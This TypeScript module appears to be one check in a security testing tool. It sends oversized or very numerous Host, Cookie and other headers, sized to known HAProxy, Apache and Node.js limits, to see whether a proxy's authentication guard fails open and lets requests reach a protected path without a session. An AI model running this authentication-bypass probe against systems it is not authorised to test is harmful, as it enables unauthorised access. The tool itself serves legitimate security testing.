import { type Attack, CONCURRENCY, forEach } from "../attack.ts";
import { Skipped, Undecided } from "../errors.ts";
import { type Headers, sendRequest } from "../http/request.ts";
import type { HttpResponse } from "../http/response.ts";
import { NoResponse } from "../http/wire.ts";
import type { Target } from "../target.ts";
import { isOpen } from "./guarded-paths.ts";

/** Smaller than the range of 64 bytes that exceeded HAProxy's limit but not the app's. */
const STEP = 48;
/** Above the header limits of most proxies, whose default is 16 KiB or less. */
const MAX_BYTES = 17_000;
/** A fixed part, which makes a proxy that copies the host reach its limit by another header. */
const HOST_BYTES = 5_000;
/** HAProxy 2.6 can crash above 95 lines that a guard script passes on, so those stay below. */
const COOKIE_LINES: readonly number[] = [20, 40, 60, 80, 90];
/** Around the default limits of HAProxy (101), Apache (100) and Node.js (2,000). */
const OTHER_LINES: readonly number[] = [90, 98, 99, 100, 101, 102, 128, 500, 1_990, 2_010];

type Oversized = readonly [what: string, headers: Headers];

export const oversizedHeaders: Attack = {
  name: "oversized-headers",
  about: "a guarded path with headers that are too long or too many for a proxy's guard",
  meaning: "A request that makes the guard fail reaches the app without a session.",
  noun: "requests",
  verb: "got past the guard",
  needs: [],

  async run(target, tally) {
    const { guarded, echo } = target;
    const path = guarded.findLast((one) => one !== echo) ?? echo;
    if (path === undefined) {
      throw new Skipped("no path redirects to the sign-in; name one with --guarded");
    }
    const other = await answerTo(target, path, { Host: "h".repeat(10) });
    const isHostGuarded = other === undefined || !isOpen({ path }, other);
    const requests: readonly Oversized[] = [
      ...(isHostGuarded ? longHosts() : []),
      ...sizes().map((bytes): Oversized => [`a Cookie of ${bytes} bytes`, cookieOf(bytes)]),
      ...COOKIE_LINES.map(
        (count): Oversized => [`${count} lines of Cookie`, { Cookie: Array(count).fill("a=b") }],
      ),
      ...OTHER_LINES.map(
        (count): Oversized => [`${count} lines of X-Line`, { "X-Line": Array(count).fill("1") }],
      ),
    ];
    let answered = 0;
    await forEach(requests, CONCURRENCY, async ([what, headers]) => {
      tally.tried();
      const response = await answerTo(target, path, headers);
      if (response === undefined) return;
      answered += 1;
      if (isOpen({ path }, response)) {
        tally.gotThrough(`GET ${path} with ${what}: ${response.status}`);
      }
    });
    if (answered === 0) throw new Undecided("the server answered none of the requests");
  },
};

const sizes = (): readonly number[] =>
  Array.from({ length: Math.floor(MAX_BYTES / STEP) }, (_, at) => (at + 1) * STEP);

const cookieOf = (bytes: number): Headers => ({ Cookie: `a=${"c".repeat(bytes)}` });

/** Left out if the server has other sites, whose pages would look like the guarded one. */
function longHosts(): readonly Oversized[] {
  return sizes().flatMap((bytes): readonly Oversized[] => [
    [`a Host of ${bytes} bytes`, { Host: "h".repeat(bytes) }],
    [
      `a Host of ${HOST_BYTES} bytes and a Cookie of ${bytes} bytes`,
      { Host: "h".repeat(HOST_BYTES), ...cookieOf(bytes) },
    ],
  ]);
}

/** The response, or nothing if the server closes the connection, which it may. */
async function answerTo(
  { address, signal }: Target,
  path: string,
  headers: Headers,
): Promise<HttpResponse | undefined> {
  try {
    return await sendRequest(address, { path, headers }, signal);
  } catch (error) {
    if (error instanceof NoResponse && signal?.aborted !== true) return undefined;
    throw error;
  }
}
